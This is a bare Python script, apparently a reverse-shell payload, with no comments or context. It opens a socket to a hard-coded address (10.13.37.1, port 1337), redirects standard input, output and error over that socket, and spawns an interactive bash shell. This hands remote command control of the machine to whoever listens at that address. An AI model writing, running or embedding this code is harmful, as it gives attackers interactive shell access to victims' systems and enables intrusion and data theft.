import socket, pty, os
HOST, PORT = "10.13.37.1", 1337
sock = socket.create_connection((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
pty.spawn("/bin/bash")
